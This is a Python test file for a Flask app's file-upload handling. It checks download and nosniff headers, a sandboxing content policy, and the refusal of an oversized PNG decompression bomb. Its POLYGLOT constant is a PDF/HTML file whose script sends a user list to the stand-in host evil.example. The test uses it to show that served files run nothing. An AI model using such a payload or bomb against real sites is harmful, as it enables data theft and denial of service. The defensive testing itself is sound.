"""Uploaded files as they are kept and served (issue #8, points 8 and 11): an image is refused by
the size its header announces before it is decoded; a stored file is served as a download
(images, re-encoded at upload, inline), never sniffed, under a policy that runs nothing."""
import io

from PIL import Image

from app.extensions import db
from models import Institution, StoredFile
from tests.conftest import login, post


def _policy(response):
    header = response.headers.get("Content-Security-Policy", "")
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


# A PDF by its first bytes, HTML with a script for a browser that sniffs.
POLYGLOT = (b"%PDF-1.4\n<html><body><script>fetch('/users/list/').then(r=>r.text())"
            b".then(t=>new Image().src='http://evil.example/?'+btoa(t))</script></body></html>"
            b"\n%%EOF\n")


def _clinic_uploads(as_role, data, name):
    clinic_id = db.session.query(Institution).filter_by(account="NX1008622").one().id
    post(as_role("city"), "/institutionview/action_post",
         {"action": "open_application", "rowid": str(clinic_id)})
    from flask import current_app

    clinic = current_app.test_client()
    assert login(clinic, "NX1008622").status_code == 302
    token = clinic.get("/account/password").get_data(as_text=True).split(
        'name="csrf_token" value="')[1].split('"')[0]
    response = clinic.post("/institution/application/upload/1", data={
        "csrf_token": token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data")
    return clinic, response


def test_a_pdf_is_served_as_a_download_never_sniffed_and_running_nothing(as_role):
    clinic, response = _clinic_uploads(as_role, POLYGLOT, "登记表.pdf")
    assert response.status_code == 302
    stored = db.session.query(StoredFile).filter_by(original_name="登记表.pdf").one()

    served = clinic.get(f"/files/{stored.id}")
    assert served.status_code == 200 and served.data == POLYGLOT
    assert served.headers["Content-Type"] == "application/pdf"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    policy = _policy(served)
    assert policy["default-src"] == ["'none'"] and "sandbox" in policy
    assert "script-src" not in policy


def test_a_reencoded_image_is_shown_inline_under_the_same_policy(as_role):
    raw = io.BytesIO()
    Image.new("RGB", (60, 40), (200, 10, 10)).save(raw, format="PNG")
    clinic, response = _clinic_uploads(as_role, raw.getvalue(), "方案.png")
    assert response.status_code == 302
    stored = db.session.query(StoredFile).filter_by(original_name="方案.png").one()
    served = clinic.get(f"/files/{stored.id}")
    assert served.headers["Content-Disposition"].startswith("inline")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert _policy(served)["default-src"] == ["'none'"] and "sandbox" in _policy(served)


def test_a_small_png_announcing_6000_by_6000_pixels_is_refused_before_decoding(
        as_role, monkeypatch):
    """35 KB on disk, 36 megapixels: decoding it cost seconds and hundreds of MB. The pixels
    of an image that large are never decoded (Pillow's own ``load`` watched, not replaced)."""
    bomb = io.BytesIO()
    Image.new("L", (6000, 6000)).save(bomb, format="PNG", optimize=True)
    assert len(bomb.getvalue()) < 60_000
    decoded = []
    real_load = Image.Image.load

    def watched_load(image):
        decoded.append(image.size)
        return real_load(image)

    monkeypatch.setattr(Image.Image, "load", watched_load)
    clinic, response = _clinic_uploads(as_role, bomb.getvalue(), "bomb.png")
    assert response.status_code == 400
    assert "图片尺寸过大" in response.get_data(as_text=True)
    assert (6000, 6000) not in decoded
    assert db.session.query(StoredFile).count() == 0
